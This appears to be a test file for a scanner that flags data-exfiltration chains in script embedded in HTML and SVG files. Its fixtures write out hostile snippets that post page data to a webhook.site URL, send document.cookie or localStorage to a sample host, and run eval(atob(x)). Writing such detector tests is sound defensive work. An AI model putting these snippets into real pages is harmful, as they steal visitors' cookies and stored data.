import { expect, test } from "vitest";
import { chainNames, deedsIn, said } from "./deeds.ts";

const sent = "files or data are sent where anybody may receive";
const secret = "a secret is sent to an unknown host";
const post = 'fetch("https://webhook.site/abc", { method: "POST", body: JSON.stringify(all) })';

test.each([
  ["a page", "page.html", `<p>Lamps</p><script>const all = document.title; ${post}</script>`, sent],
  ["a picture", "logo.svg", `<svg><script>\nconst all = { a: 1 };\nif (1 &lt; 2) ${post};\n</script></svg>`, sent],
  [
    "a module",
    "page.htm",
    '<script type="module">fetch("https://lamps.sample.dev/?" + document.cookie)</script>',
    secret,
  ],
  [
    "what a browser keeps",
    "page.html",
    '<script>navigator.sendBeacon("https://lamps.sample.dev/", JSON.stringify(localStorage))</script>',
    secret,
  ],
])("the program of %s is read", (_, path, text, chain) => {
  expect(chainNames(path, text)).toEqual([chain]);
});

test("lines and hosts are those of the page", () => {
  const text = '<html>\n<script src="https://cdn.sample.dev/a.js"></script>\n<script>\n\neval(atob(x))\n</script>';
  const deeds = deedsIn("page.html", text);
  expect(said(deeds, "host")).toEqual(["cdn.sample.dev (link, other)"]);
  expect(deeds.find(({ kind, signs }) => kind === "run" && signs.includes("encoded"))).toMatchObject({ line: 5 });
});

test.each([
  ["data of a page", '<script type="application/json">{"a": "fetch(1)"}</script>'],
  ["a setting that a page keeps for itself", '<script>const t = localStorage.getItem("theme"); show(t)</script>'],
  ["a page that is never closed", "<script>const a = 1"],
])("is no chain: %s", (_, text) => {
  expect(chainNames("page.html", text)).toEqual([]);
});

test("a page of a thousand programs is read up to a bound, and says so", () => {
  const deeds = deedsIn("page.html", "<script>f()</script>".repeat(1_000));
  expect(said(deeds, "unread")).toEqual(["more"]);
});
